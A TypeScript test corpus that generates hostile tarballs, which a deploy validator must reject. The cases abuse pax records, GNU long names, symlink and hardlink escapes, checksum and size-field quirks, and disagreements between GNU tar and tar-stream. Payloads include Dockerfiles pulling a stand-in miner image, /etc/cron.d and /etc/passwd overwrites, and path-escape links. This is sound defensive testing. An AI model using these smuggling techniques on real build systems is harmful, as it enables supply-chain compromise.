/**
 * The hostile corpus: tarballs written from raw tar headers (test/support/raw-tar.ts) to make the
 * build's GNU tar and Prepare's tar-stream disagree, or to slip past a validator that reads one field
 * and not another. Each is a deploy Prepare must refuse, naming the entry at fault, before any change.
 * `npx tsx test/corpus/hostile.ts OUTDIR` writes them all to OUTDIR (e.g. to list them with GNU tar).
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { base256, dir, entry, file, gnuLong, hardlink, octal, pax, paxRecord, symlink, tgz } from '../support/raw-tar.js';
import type { CorpusCase } from './cases.js';

const FROM = 'FROM httpd:2.4\nEXPOSE 80\n';
const DOCKERFILE = file('Dockerfile', FROM);
const INDEX = file('index.html', 'ok');
/** what an attacker wants the build to use instead of the Dockerfile Prepare read */
const EVIL = file('Dockerfile', 'FROM evil.example.com/miner:latest\n');
const good = (...blocks: Buffer[]) => tgz([DOCKERFILE, INDEX, ...blocks]);
const hostile = (name: string, code: string, names: RegExp, blocks: () => Buffer[]): CorpusCase => ({ name, code, names, body: async () => tgz(blocks()) });
const withGood = (name: string, code: string, names: RegExp, blocks: () => Buffer[]): CorpusCase => ({ name, code, names, body: async () => good(...blocks()) });
const deep = (leaf: string) => `${'deep-directory-name/'.repeat(8)}${leaf}`;
/** a size field whose first byte has the high bit set but is neither 0x80 nor 0xff: not base-256, not octal */
const notBase256 = (first: number) => Buffer.from([first, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0]);

export const HOSTILE: CorpusCase[] = [
  // --- bodies on headers that have none. GNU tar: a hard link is 0 bytes on tape, and extraction of a
  // symlink, directory, device or fifo reads what follows the header as the next member, so the hidden
  // Dockerfile replaces the validated one (tar -t even lists a symlink's body as skipped data, tar -x
  // extracts the device inside it); tar-stream read the same bytes as the entry's body
  withGood('hardlink carrying a hidden Dockerfile', 'TARBALL_UNEXPECTED_BODY', /"hard"/, () => [entry({ name: 'hard', type: 'link', linkname: 'index.html' }, EVIL)]),
  withGood('symlink carrying a hidden device node', 'TARBALL_UNEXPECTED_BODY', /"lnk"/, () => [
    entry({ name: 'lnk', type: 'symlink', linkname: 'index.html' }, entry({ name: 'dev/tty', type: 'char', devmajor: 5 })),
  ]),
  withGood('directory carrying a hidden bad name', 'TARBALL_UNEXPECTED_BODY', /"sub\/"/, () => [entry({ name: 'sub/', type: 'dir' }, file('../escape.txt', 'x'))]),
  withGood('directory with a 1-byte size field', 'TARBALL_UNEXPECTED_BODY', /"sub\/"/, () => [entry({ name: 'sub/', type: 'dir' }, 'x'), file('sub/a.txt', 'a')]),
  withGood('directory whose size field claims 8 GiB', 'TARBALL_UNEXPECTED_BODY', /"sub\/"/, () => [entry({ name: 'sub/', type: 'dir', size: 8 * 1024 ** 3 - 1 })]),
  withGood('character device with a body', 'TARBALL_UNEXPECTED_BODY', /"dev\/tty"/, () => [entry({ name: 'dev/tty', type: 'char' }, EVIL)]),
  withGood('fifo with a body', 'TARBALL_UNEXPECTED_BODY', /"pipe"/, () => [entry({ name: 'pipe', type: 'fifo' }, EVIL)]),
  withGood('directory given a body by a pax size record', 'TARBALL_UNEXPECTED_BODY', /"sub\/"/, () => [
    pax({ size: String(EVIL.length) }),
    entry({ name: 'sub/', type: 'dir' }),
    EVIL,
  ]),
  withGood('symlink given a body by a base-256 size', 'TARBALL_UNEXPECTED_BODY', /"lnk"/, () => [
    entry({ name: 'lnk', type: 'symlink', linkname: 'index.html', sizeField: base256(EVIL.length) }, EVIL),
  ]),
  withGood('directory given a body by a base-256 size', 'TARBALL_UNEXPECTED_BODY', /"sub\/"/, () => [entry({ name: 'sub/', type: 'dir', sizeField: base256(EVIL.length) }, EVIL)]),

  // --- pax records. GNU tar: a global path renames every later member (two "Dockerfile"s, the last
  // wins), a global size resizes them; GNU.sparse.* expands a member into another name and size
  // (GNUSparseFile.0/notes.txt extracts as Dockerfile); SCHILY.filetype and GNU.dumpdir are ignored
  // with a warning; linkpath and path override the ustar fields, a leading / is stripped and the file
  // extracted; a negative or malformed size or record is an error that it extracts past
  hostile('global pax path', 'TARBALL_PAX_UNSUPPORTED', /"path"/, () => [pax({ path: 'Dockerfile' }, { global: true }), file('notes.txt', FROM), INDEX]),
  hostile('global pax size', 'TARBALL_PAX_UNSUPPORTED', /"size"/, () => [pax({ size: '0' }, { global: true }), DOCKERFILE, INDEX]),
  hostile('global pax linkpath', 'TARBALL_PAX_UNSUPPORTED', /"linkpath"/, () => [
    pax({ linkpath: '../../etc/passwd' }, { global: true }),
    DOCKERFILE,
    symlink('lnk', 'index.html'),
    INDEX,
  ]),
  hostile('global pax path beside a comment', 'TARBALL_PAX_UNSUPPORTED', /"path"/, () => [
    pax(
      [
        ['comment', '0123456789abcdef0123456789abcdef01234567'],
        ['path', 'Dockerfile'],
      ],
      { global: true },
    ),
    DOCKERFILE,
    INDEX,
  ]),
  hostile('global pax GNU.sparse.name', 'TARBALL_PAX_UNSUPPORTED', /"GNU\.sparse\.name"/, () => [pax({ 'GNU.sparse.name': 'Dockerfile' }, { global: true }), DOCKERFILE, INDEX]),
  withGood('GNU.sparse.name renaming an entry to the Dockerfile', 'TARBALL_SPARSE', /GNUSparseFile\.0\/notes\.txt.*GNU\.sparse\.name/, () => [
    pax({ 'GNU.sparse.name': 'Dockerfile' }),
    file('GNUSparseFile.0/notes.txt', 'FROM evil.example.com/miner\n'),
  ]),
  withGood('GNU sparse 1.0 file (major, minor, realsize)', 'TARBALL_SPARSE', /"big\.bin".*GNU\.sparse\.major/, () => [
    pax([
      ['GNU.sparse.major', '1'],
      ['GNU.sparse.minor', '0'],
      ['GNU.sparse.name', 'big.bin'],
      ['GNU.sparse.realsize', String(1024 ** 3)],
    ]),
    file('big.bin', Buffer.concat([Buffer.from('1\n0\n5\n'.padEnd(512, '\0')), Buffer.from('hello')])),
  ]),
  withGood('GNU.sparse.realsize alone', 'TARBALL_SPARSE', /"data\.bin".*GNU\.sparse\.realsize/, () => [pax({ 'GNU.sparse.realsize': String(1024 ** 4) }), file('data.bin', 'x')]),
  withGood('GNU sparse 0.1 map', 'TARBALL_SPARSE', /"data\.bin".*GNU\.sparse\.size/, () => [
    pax([
      ['GNU.sparse.size', '1048576'],
      ['GNU.sparse.numblocks', '1'],
      ['GNU.sparse.map', '1048571,5'],
    ]),
    file('data.bin', 'hello'),
  ]),
  withGood('per-entry SCHILY.filetype', 'TARBALL_PAX_UNSUPPORTED', /"tty".*SCHILY\.filetype/, () => [pax({ 'SCHILY.filetype': 'chardev' }), file('tty', '')]),
  withGood('per-entry GNU.dumpdir', 'TARBALL_PAX_UNSUPPORTED', /"sub\/".*GNU\.dumpdir/, () => [pax({ 'GNU.dumpdir': 'YDockerfile\0' }), dir('sub/')]),
  withGood('pax linkpath escaping behind an innocent linkname', 'TARBALL_LINK_ESCAPE', /"lnk"/, () => [pax({ linkpath: '../../etc/passwd' }), symlink('lnk', 'index.html')]),
  withGood('pax linkpath naming a later file', 'TARBALL_HARDLINK_TARGET', /"hard"/, () => [pax({ linkpath: 'later.txt' }), hardlink('hard', 'index.html'), file('later.txt', 'x')]),
  withGood('pax path absolute behind an innocent name', 'TARBALL_ABSOLUTE_PATH', /\/etc\/cron\.d\/evil/, () => [
    pax({ path: '/etc/cron.d/evil' }),
    file('innocent.txt', '* * * * * root sh'),
  ]),
  withGood('pax path with a newline', 'TARBALL_BAD_NAME', /U\+000A/, () => [pax({ path: 'Docker\nfile' }), file('x.txt', FROM)]),
  withGood('pax size claiming 9 GiB', 'TARBALL_TOO_LARGE', /"big\.bin"/, () => [pax({ size: String(9 * 1024 ** 3) }), file('big.bin', 'x')]),
  withGood('pax size negative', 'TARBALL_PAX_UNSUPPORTED', /"neg\.bin" has the pax record size="-1"/, () => [pax({ size: '-1' }), file('neg.bin', 'x')]),
  // tar-stream read the first 16 bytes as a path of ../../.; GNU tar stops at the record without its newline
  withGood('pax record with a lying length', 'TARBALL_PAX_UNSUPPORTED', /"innocent\.txt" has a malformed pax header \(record 1 says 16 bytes/, () => [
    pax(Buffer.concat([paxRecord('path', '../../../../etc/cron.d/evil', 16), paxRecord('mtime', '1')])),
    file('innocent.txt', 'x'),
  ]),
  withGood('second pax header overriding the first', 'TARBALL_PARENT_PATH', /\.\.\/escape\.txt/, () => [
    pax({ path: 'ok.txt' }),
    pax({ path: '../escape.txt' }),
    file('ok.txt', 'x'),
  ]),

  // --- GNU 'L'/'K' records. GNU tar: the long name or link replaces the header's innocent one, a
  // leading / or ../ is stripped and the member extracted, a device or fifo is created under the long
  // name, a second "Dockerfile" replaces the first; a 5 MiB name is read whole (tar-stream gives up)
  withGood('GNU longname absolute', 'TARBALL_ABSOLUTE_PATH', /\/etc\/cron\.d\/evil/, () => [gnuLong('name', '/etc/cron.d/evil'), file('innocent.txt', 'x', { magic: 'gnu' })]),
  withGood('GNU longname with parent segments', 'TARBALL_PARENT_PATH', /escape\.txt/, () => [
    gnuLong('name', `${'a/'.repeat(60)}${'../'.repeat(70)}escape.txt`),
    file('escape.txt', 'x', { magic: 'gnu' }),
  ]),
  withGood('GNU longname hiding a character device', 'TARBALL_SPECIAL_FILE', /deep-directory-name\/.*tty/, () => [
    gnuLong('name', deep('tty')),
    entry({ name: 'tty', type: 'char', magic: 'gnu', devmajor: 5 }),
  ]),
  withGood('GNU longname hiding a fifo', 'TARBALL_SPECIAL_FILE', /deep-directory-name\/.*pipe/, () => [
    gnuLong('name', deep('pipe')),
    entry({ name: 'pipe', type: 'fifo', magic: 'gnu' }),
  ]),
  withGood('GNU longlink symlink escaping', 'TARBALL_LINK_ESCAPE', /"lnk"/, () => [
    gnuLong('link', `${'../'.repeat(40)}etc/passwd`),
    symlink('lnk', 'index.html', { magic: 'gnu' }),
  ]),
  withGood('GNU longlink hardlink to a missing name', 'TARBALL_HARDLINK_TARGET', /"hard"/, () => [
    gnuLong('link', deep('missing.txt')),
    hardlink('hard', 'index.html', { magic: 'gnu' }),
  ]),
  withGood('GNU longname segment of 300 bytes', 'TARBALL_BAD_NAME', /300 bytes/, () => [gnuLong('name', `dir/${'n'.repeat(300)}`), file('short', 'x', { magic: 'gnu' })]),
  withGood('GNU longname with an escape character', 'TARBALL_BAD_NAME', /U\+001B/, () => [gnuLong('name', deep('\u001b[31mred.txt')), file('red.txt', 'x', { magic: 'gnu' })]),
  withGood('GNU longname repeating the Dockerfile', 'TARBALL_DUPLICATE_ENTRY', /"Dockerfile"/, () => [
    gnuLong('name', 'Dockerfile'),
    file('notes.txt', 'FROM evil.example.com/miner\n', { magic: 'gnu' }),
  ]),
  withGood('GNU longname on a hardlink to a later file', 'TARBALL_HARDLINK_TARGET', /deep-directory-name\/.*hard/, () => [
    gnuLong('name', deep('hard')),
    hardlink('hard', 'later.txt', { magic: 'gnu' }),
    file('later.txt', 'x'),
  ]),
  withGood('GNU longname of 5 MiB', 'TARBALL_BAD_NAME', /long name after entry "index\.html" is too long \(5242881 bytes/, () => [
    gnuLong('name', 'a/'.repeat(2.5 * 1024 * 1024)),
    file('x', 'x', { magic: 'gnu' }),
  ]),
  withGood('pax path hiding a block device', 'TARBALL_SPECIAL_FILE', /deep-directory-name\/.*sda/, () => [
    pax({ path: deep('sda') }),
    entry({ name: 'sda', type: 'block', devmajor: 8 }),
  ]),

  // --- writing through an earlier symlink. GNU tar: d -> . then d/Dockerfile writes the root's
  // Dockerfile through the link (tar -t shows two different names), in the top folder as well; under a
  // file, or a symlink over a directory already holding entries, extraction fails part-way
  withGood('d -> . then d/Dockerfile', 'TARBALL_THROUGH_LINK', /"d\/Dockerfile"/, () => [symlink('d', '.'), file('d/Dockerfile', 'FROM evil.example.com/miner\n')]),
  withGood('nested a/b -> .. then a/b/index.html', 'TARBALL_THROUGH_LINK', /"a\/b\/index\.html"/, () => [dir('a/'), symlink('a/b', '..'), file('a/b/index.html', 'pwned')]),
  hostile('through a symlinked directory in the top folder', 'TARBALL_THROUGH_LINK', /"app\/lib\/Dockerfile"/, () => [
    dir('app/'),
    file('app/Dockerfile', FROM),
    symlink('app/lib', '.'),
    file('app/lib/Dockerfile', 'FROM evil.example.com/miner\n'),
  ]),
  withGood('through a symlink spelled ./d/./', 'TARBALL_THROUGH_LINK', /"\.\/d\/\.\/Dockerfile"/, () => [
    symlink('d', '.'),
    file('./d/./Dockerfile', 'FROM evil.example.com/miner\n'),
  ]),
  withGood('through a symlink named by a pax path', 'TARBALL_THROUGH_LINK', /"d\/Dockerfile"/, () => [
    symlink('d', '.'),
    pax({ path: 'd/Dockerfile' }),
    file('notes.txt', 'FROM evil\n'),
  ]),
  withGood('through a chain of symlinks', 'TARBALL_THROUGH_LINK', /"b\/Dockerfile"/, () => [symlink('a', '.'), symlink('b', 'a'), file('b/Dockerfile', 'FROM evil\n')]),
  withGood('through a symlink to a real directory', 'TARBALL_THROUGH_LINK', /"d\/x\.txt"/, () => [dir('real/'), symlink('d', 'real'), file('d/x.txt', 'x')]),
  withGood('symlink replacing a directory earlier entries are in', 'TARBALL_THROUGH_LINK', /"sub"/, () => [file('sub/a.txt', 'a'), symlink('sub', '.')]),
  withGood('entry under an earlier file', 'TARBALL_THROUGH_LINK', /"index\.html\/x"/, () => [file('index.html/x', 'x')]),
  withGood('entry under an earlier hardlink', 'TARBALL_THROUGH_LINK', /"h\/x"/, () => [hardlink('h', 'index.html'), file('h/x', 'x')]),

  // --- symlinks that stay inside the archive but leave it once its top folder is stripped. GNU tar:
  // app/up -> .. is inside app/'s parent in the archive, and with --strip-components=1 it is the build
  // directory's parent
  hostile('app/up -> .. escaping after the strip', 'TARBALL_LINK_ESCAPE', /"up"/, () => [dir('app/'), file('app/Dockerfile', FROM), symlink('app/up', '..')]),
  hostile('app/sub/root -> ../.. escaping after the strip', 'TARBALL_LINK_ESCAPE', /"sub\/root"/, () => [
    dir('app/'),
    file('app/Dockerfile', FROM),
    dir('app/sub/'),
    symlink('app/sub/root', '../..'),
  ]),
  hostile('app/self -> ../app/Dockerfile escaping after the strip', 'TARBALL_LINK_ESCAPE', /"self"/, () => [
    dir('app/'),
    file('app/Dockerfile', FROM),
    symlink('app/self', '../app/Dockerfile'),
  ]),
  hostile('symlink chain escaping after the strip', 'TARBALL_LINK_ESCAPE', /"b"/, () => [
    dir('app/'),
    file('app/Dockerfile', FROM),
    symlink('app/a', '.'),
    symlink('app/b', 'a/..'),
  ]),

  // --- the top folder written as ./app. GNU tar: ./app/Dockerfile and app/Dockerfile are one file
  // (the last wins), ./app/d/Dockerfile goes through ./app/d, ./app/up -> .. escapes once stripped
  hostile('./app/up -> .. escaping after the strip', 'TARBALL_LINK_ESCAPE', /"up"/, () => [dir('./app/'), file('./app/Dockerfile', FROM), symlink('./app/up', '..')]),
  hostile('./app/Dockerfile beside app/Dockerfile', 'TARBALL_DUPLICATE_ENTRY', /"app\/Dockerfile"/, () => [
    dir('./app/'),
    file('./app/Dockerfile', FROM),
    file('app/Dockerfile', 'FROM evil\n'),
  ]),
  hostile('./app/d -> . then ./app/d/Dockerfile', 'TARBALL_THROUGH_LINK', /"\.\/app\/d\/Dockerfile"/, () => [
    dir('./app/'),
    file('./app/Dockerfile', FROM),
    symlink('./app/d', '.'),
    file('./app/d/Dockerfile', 'FROM evil\n'),
  ]),
  hostile('./app/rackless.yml beside ./app/rackless.yaml', 'MANIFEST_AMBIGUOUS', /rackless\.yml and rackless\.yaml/, () => [
    dir('./app/'),
    file('./app/Dockerfile', FROM),
    file('./app/rackless.yml', 'services:\n  web:\n    build: .\n'),
    file('./app/rackless.yaml', 'services:\n  web:\n    image: evil.example.com/miner\n'),
  ]),

  // --- names within 255 UTF-16 code units but over 255 bytes of UTF-8 (what Linux's NAME_MAX counts).
  // GNU tar: lists them, then "Cannot open: File name too long" on extraction (a symlink target of
  // 256 bytes is created: the kernel limits targets by PATH_MAX only)
  withGood('segment of 128 é (256 bytes)', 'TARBALL_BAD_NAME', /256 bytes/, () => [pax({ path: `${'é'.repeat(128)}/x.txt` }), file('x.txt', 'x')]),
  withGood('segment of 86 CJK characters in a GNU longname (258 bytes)', 'TARBALL_BAD_NAME', /258 bytes/, () => [
    gnuLong('name', `docs/${'数'.repeat(86)}`),
    file('docs', 'x', { magic: 'gnu' }),
  ]),
  withGood('segment of 64 emoji (256 bytes)', 'TARBALL_BAD_NAME', /256 bytes/, () => [pax({ path: '😀'.repeat(64) }), file('smile.txt', 'x')]),
  withGood('path of 4227 bytes in 1427 UTF-16 units', 'TARBALL_BAD_NAME', /4227 bytes/, () => [
    pax({ path: Array.from({ length: 28 }, () => '数'.repeat(50)).join('/') }),
    file('x.txt', 'x'),
  ]),
  withGood('symlink target segment of 128 é', 'TARBALL_BAD_NAME', /"lnk".*256 bytes/, () => [pax({ linkpath: 'é'.repeat(128) }), symlink('lnk', 'index.html')]),

  // --- the Dockerfile or the manifest as a link. GNU tar: extracts the link, so docker build and the
  // manifest reader follow it to bytes Prepare did not read as the Dockerfile or manifest
  hostile('Dockerfile as a symlink', 'DOCKERFILE_LINKED', /"Dockerfile" is a symlink/, () => [file('docker/Dockerfile', FROM), symlink('Dockerfile', 'docker/Dockerfile'), INDEX]),
  hostile('Dockerfile as a hardlink', 'DOCKERFILE_LINKED', /"Dockerfile" is a hard link/, () => [file('real.txt', FROM), hardlink('Dockerfile', 'real.txt'), INDEX]),
  hostile('Dockerfile as a hardlink in the top folder', 'DOCKERFILE_LINKED', /"Dockerfile" is a hard link/, () => [
    dir('app/'),
    file('app/real.txt', FROM),
    hardlink('app/Dockerfile', 'app/real.txt'),
  ]),
  withGood('rackless.yml as a symlink', 'MANIFEST_LINKED', /rackless\.yml: is a symlink/, () => [
    file('config/rackless.yml', 'services:\n  web:\n    build: .\n'),
    symlink('rackless.yml', 'config/rackless.yml'),
  ]),
  withGood('rackless.yaml as a hardlink', 'MANIFEST_LINKED', /rackless\.yaml: is a hard link/, () => [
    file('config.yml', 'services:\n  web:\n    build: .\n'),
    hardlink('rackless.yaml', 'config.yml'),
  ]),
  withGood('manifest-named Dockerfile as a symlink', 'DOCKERFILE_LINKED', /"api\/Dockerfile\.prod" is a symlink/, () => [
    file('rackless.yml', 'services:\n  web:\n    build:\n      path: api\n      manifest: Dockerfile.prod\n'),
    file('api/server.js', 'x'),
    symlink('api/Dockerfile.prod', '../Dockerfile'),
  ]),

  // --- two manifests. GNU tar: extracts both; which one a reader takes is a matter of its order
  withGood('rackless.yml beside rackless.yaml', 'MANIFEST_AMBIGUOUS', /rackless\.yml and rackless\.yaml/, () => [
    file('rackless.yml', 'services:\n  web:\n    build: .\n'),
    file('rackless.yaml', 'services:\n  web:\n    image: evil.example.com/miner\n'),
  ]),
  hostile('rackless.yml beside rackless.yaml in the top folder', 'MANIFEST_AMBIGUOUS', /rackless\.yml and rackless\.yaml/, () => [
    dir('app/'),
    file('app/Dockerfile', FROM),
    file('app/rackless.yml', 'services:\n  web:\n    build: .\n'),
    file('app/rackless.yaml', 'services:\n  web:\n    build: .\n'),
  ]),
  withGood('rackless.yaml a symlink beside rackless.yml', 'MANIFEST_AMBIGUOUS', /rackless\.yml and rackless\.yaml/, () => [
    file('rackless.yml', 'services:\n  web:\n    build: .\n'),
    symlink('rackless.yaml', 'rackless.yml'),
  ]),

  // --- a Dockerfile with no build stage. GNU tar extracts it unchanged; docker build then fails with
  // "no build stage" after ECR and CodeBuild have been touched (a FROM in a comment, a heredoc or a
  // continuation line is not an instruction)
  hostile('empty Dockerfile', 'DOCKERFILE_NO_STAGE', /"Dockerfile" has no FROM/, () => [file('Dockerfile', ''), INDEX]),
  hostile('Dockerfile of comments and ARGs', 'DOCKERFILE_NO_STAGE', /"Dockerfile" has no FROM/, () => [
    file('Dockerfile', '# FROM httpd:2.4\nARG VERSION=2.4\nEXPOSE 80\n'),
    INDEX,
  ]),
  hostile('FROM only inside a heredoc', 'DOCKERFILE_NO_STAGE', /"Dockerfile" has no FROM/, () => [file('Dockerfile', 'RUN <<EOF\nFROM httpd:2.4\nEOF\n'), INDEX]),
  hostile('FROM only on a continuation line', 'DOCKERFILE_NO_STAGE', /"Dockerfile" has no FROM/, () => [file('Dockerfile', 'RUN echo \\\nFROM httpd:2.4\n'), INDEX]),
  hostile('FROM only on a backtick continuation line', 'DOCKERFILE_NO_STAGE', /"Dockerfile" has no FROM/, () => [
    file('Dockerfile', '# escape=`\nRUN echo `\nFROM httpd:2.4\n'),
    INDEX,
  ]),

  // --- checksums. GNU tar: "Skipping to next header" past a bad one and extracts what follows (the
  // first header's bad sum loses the Dockerfile, keeps index.html); it accepts a checksum summed over
  // signed bytes and a v7 header without magic; tar-stream refuses all of them
  hostile('bad checksum on the first header', 'TARBALL_NOT_TAR', /at the start/, () => [file('Dockerfile', FROM, { checksum: 'bad' }), INDEX]),
  withGood('bad checksum on a later header', 'TARBALL_NOT_TAR', /after entry "index\.html"/, () => [file('evil.txt', 'x', { checksum: 'bad' })]),
  withGood('signed checksum over UTF-8 bytes', 'TARBALL_NOT_TAR', /after entry "index\.html"/, () => [file('café.txt', 'x', { checksum: 'signed' })]),
  withGood('blank checksum field', 'TARBALL_NOT_TAR', /after entry "index\.html"/, () => [file('blank.txt', 'x', { checksum: 0 })]),
  hostile('v7 header without magic', 'TARBALL_NOT_TAR', /at the start/, () => [file('Dockerfile', FROM, { magic: 'none' }), INDEX]),

  // --- numeric fields in base-256. GNU tar: -512 is "out of off_t range" and skipped, 2^62 reads to
  // "Unexpected EOF", beyond 2^64 is "out of off_t range"; tar-stream reads the sign and the magnitude
  withGood('negative base-256 size', 'TARBALL_NOT_TAR', /tar header/, () => [file('neg.bin', '', { sizeField: base256(-512) })]),
  withGood('base-256 size of 2^62', 'TARBALL_TOO_LARGE', /"huge\.bin"/, () => [file('huge.bin', 'x', { sizeField: base256(2n ** 62n) })]),
  withGood('base-256 size beyond 2^64', 'TARBALL_TOO_LARGE', /"huge\.bin"/, () => [file('huge.bin', 'x', { sizeField: base256(2n ** 80n - 1n) })]),

  // --- size fields that are not numbers. GNU tar: "where numeric off_t value expected" or
  // "obsolescent base-64 headers", then skips to the next header; blanks read as 0 by tar-stream hide
  // the next header in the body, and GNU tar extracts it ("Blanks in header")
  withGood('size field of letters', 'TARBALL_NOT_TAR', /tar header/, () => [file('junk.bin', 'x', { sizeField: 'zzzzzzzzzzz\0' })]),
  withGood('size field negative octal', 'TARBALL_NOT_TAR', /tar header/, () => [file('junk.bin', 'x', { sizeField: '-0000000001\0' })]),
  withGood('blank size field hiding a Dockerfile', 'TARBALL_NOT_TAR', /"notes\.txt" has a size field " +" that is blank/, () => [
    entry({ name: 'notes.txt', sizeField: ' '.repeat(12) }, EVIL),
  ]),

  // --- hard links. GNU tar: "Cannot hard link" to a later, missing or own name, "Operation not
  // permitted" to a directory, and to a symlink it links the symlink itself (a second symlink)
  withGood('hardlink to a later file', 'TARBALL_HARDLINK_TARGET', /"hard" -> "later\.txt"/, () => [hardlink('hard', 'later.txt'), file('later.txt', 'x')]),
  withGood('hardlink to a directory', 'TARBALL_HARDLINK_TARGET', /"hard" -> "sub"/, () => [dir('sub/'), hardlink('hard', 'sub')]),
  withGood('hardlink to a missing name', 'TARBALL_HARDLINK_TARGET', /"hard" -> "missing\.txt"/, () => [hardlink('hard', 'missing.txt')]),
  withGood('hardlink to itself', 'TARBALL_HARDLINK_TARGET', /"hard" -> "hard"/, () => [hardlink('hard', 'hard')]),
  withGood('hardlink to an earlier symlink to a directory', 'TARBALL_HARDLINK_TARGET', /"hard" -> "d"/, () => [dir('sub/'), symlink('d', 'sub'), hardlink('hard', 'd')]),

  // --- one path spelled two ways. GNU tar: lists two members and extracts both to one file, the
  // last wins (./Dockerfile replaces Dockerfile); a/. after the file a fails; invalid UTF-8 bytes are
  // two distinct names to it, one U+FFFD name to tar-stream
  withGood('a//b after a/b', 'TARBALL_DUPLICATE_ENTRY', /"a\/\/b"/, () => [file('a/b', 'first'), file('a//b', 'second')]),
  withGood('./index.html after index.html', 'TARBALL_DUPLICATE_ENTRY', /"\.\/index\.html"/, () => [file('./index.html', 'second')]),
  withGood('a/. after the file a', 'TARBALL_DUPLICATE_ENTRY', /"a\/\."/, () => [file('a', 'first'), file('a/.', 'second')]),
  withGood('./Dockerfile replacing the Dockerfile', 'TARBALL_DUPLICATE_ENTRY', /"\.\/Dockerfile"/, () => [file('./Dockerfile', 'FROM evil\n')]),
  withGood('ustar prefix . before Dockerfile', 'TARBALL_DUPLICATE_ENTRY', /"\.\/Dockerfile"/, () => [file('Dockerfile', 'FROM evil\n', { prefix: '.' })]),
  withGood('ustar prefix spelling a/b', 'TARBALL_DUPLICATE_ENTRY', /"a\/b"/, () => [file('a/b', 'first'), file('b', 'second', { prefix: 'a' })]),
  withGood('regular file with a trailing slash over index.html', 'TARBALL_DUPLICATE_ENTRY', /"index\.html\/"/, () => [file('index.html/', '')]),
  withGood('sub/. after sub/', 'TARBALL_DUPLICATE_ENTRY', /"sub\/\."/, () => [dir('sub/'), dir('sub/.')]),
  withGood('pax path ./Dockerfile', 'TARBALL_DUPLICATE_ENTRY', /"\.\/Dockerfile"/, () => [pax({ path: './Dockerfile' }), file('notes.txt', 'FROM evil\n')]),
  withGood('two names that differ only in invalid UTF-8', 'TARBALL_DUPLICATE_ENTRY', /x\uFFFD/, () => [
    entry({ name: Buffer.from([0x78, 0xff]) }, '1'),
    entry({ name: Buffer.from([0x78, 0xfe]) }, '2'),
  ]),

  // --- names. GNU tar: strips a leading / or a ustar prefix's ../ and extracts, substitutes . for an
  // empty name, writes control characters and C:\\ names as they are
  withGood('ustar prefix absolute', 'TARBALL_ABSOLUTE_PATH', /"\/etc\/passwd"/, () => [file('passwd', 'root::0:0::/:/bin/sh\n', { prefix: '/etc' })]),
  withGood('ustar prefix with parent segments', 'TARBALL_PARENT_PATH', /"a\/\.\.\/\.\.\/escape\.txt"/, () => [file('escape.txt', 'x', { prefix: 'a/../..' })]),
  withGood('empty name', 'TARBALL_BAD_NAME', /is empty/, () => [file('', 'x')]),
  withGood('a file named .', 'TARBALL_BAD_NAME', /names the archive root/, () => [file('.', 'x')]),
  withGood('C1 control character in a name', 'TARBALL_BAD_NAME', /U\+0085/, () => [file('next\u0085line.txt', 'x')]),
  withGood('DEL in a name', 'TARBALL_BAD_NAME', /U\+007F/, () => [file('del\u007f.txt', 'x')]),
  withGood('Windows drive path', 'TARBALL_ABSOLUTE_PATH', /C:/, () => [file('C:\\Windows\\evil.dll', 'x')]),

  // --- typeflags that are not files, directories or links. GNU tar: lists a volume label and a
  // continuation, refuses to extract a continued file, extracts a dumpdir as a directory
  withGood('GNU volume label', 'TARBALL_SPECIAL_FILE', /"label"/, () => [entry({ name: 'label', typeflag: 'V', magic: 'gnu' })]),
  withGood('GNU multi-volume continuation', 'TARBALL_SPECIAL_FILE', /"cont\.bin"/, () => [entry({ name: 'cont.bin', typeflag: 'M', magic: 'gnu' })]),
  withGood('GNU dumpdir with a body', 'TARBALL_SPECIAL_FILE', /"sub" has typeflag 'D' \(a GNU dumpdir\), which the build's tar reads differently/, () => [
    entry({ name: 'sub', typeflag: 'D', magic: 'gnu' }, 'YDockerfile\0\0'),
  ]),

  // --- past the end of the archive. GNU tar stops at the end-of-archive (or a lone) zero block and
  // never sees what follows; tar-stream reads on, and Prepare judges what it reads
  hostile('entry after the end-of-archive blocks', 'TARBALL_PARENT_PATH', /\.\.\/escape\.txt/, () => [DOCKERFILE, INDEX, Buffer.alloc(1024), file('../escape.txt', 'x')]),
  hostile('hidden Dockerfile after a lone zero block', 'TARBALL_DUPLICATE_ENTRY', /"Dockerfile"/, () => [DOCKERFILE, INDEX, Buffer.alloc(512), EVIL]),

  // --- pax global headers. GNU tar applies them and lists nothing; each counts against the entry limit
  {
    name: 'a thousand pax global headers',
    code: 'TARBALL_TOO_MANY_ENTRIES',
    names: /pax global header/,
    body: async () => good(...Array.from({ length: 1001 }, () => pax({ comment: 'x' }, { global: true }))),
  },

  // --- headers tar-stream and GNU tar frame differently: each was a KNOWN_GAP (accepted, hung on or
  // refused under a misleading code) until the framing check (shared/tarball/framing.ts) came to
  // refuse it before tar-stream reads it.
  // A regular file named with a trailing slash. GNU tar: lists "drw-r--r-- 1024 olddir/"; -x makes the
  // directory olddir and extracts the hidden Dockerfile (FROM evil…) over the real one. tar-stream
  // computes the type before its trailing-slash rule (headers.js), so kept a file of 1024 bytes
  ...(
    [
      ['typeflag 0', () => [entry({ name: 'olddir/' }, EVIL)]],
      ['typeflag NUL', () => [entry({ name: 'olddir/', typeflag: '\0' }, EVIL)]],
      ['typeflag 7', () => [entry({ name: 'olddir/', type: 'contiguous' }, EVIL)]],
      ['pax path', () => [pax({ path: 'olddir/' }), file('notes.txt', EVIL)]],
      ['GNU longname', () => [gnuLong('name', 'olddir/'), file('notes.txt', EVIL, { magic: 'gnu' })]],
    ] as const
  ).map(([how, blocks]) =>
    withGood(`file named olddir/ (${how}) carrying a hidden Dockerfile`, 'TARBALL_UNEXPECTED_BODY', /"olddir\/" is a directory \(a file whose name ends in "\/"/, () => [
      ...blocks(),
    ]),
  ),
  // GNU tar: "Unknown file type 'N', extracted as normal file": a file "names", notes.txt, index.html,
  // no Dockerfile. tar-stream read 'N' (old GNU names) as a long name ('N' - '0' = 30) and named
  // notes.txt "Dockerfile": Prepare built FROM evil…
  hostile('typeflag N renaming the next entry to Dockerfile', 'TARBALL_SPECIAL_FILE', /"names" has typeflag 'N' \(old GNU long names\)/, () => [
    entry({ name: 'names', typeflag: 'N', magic: 'gnu' }, 'Dockerfile\0'),
    file('notes.txt', 'FROM evil.example.com/miner:latest\n'),
    INDEX,
  ]),
  // GNU tar: "Malformed extended header: invalid size=1024junk", keeps the ustar size 0 and extracts the
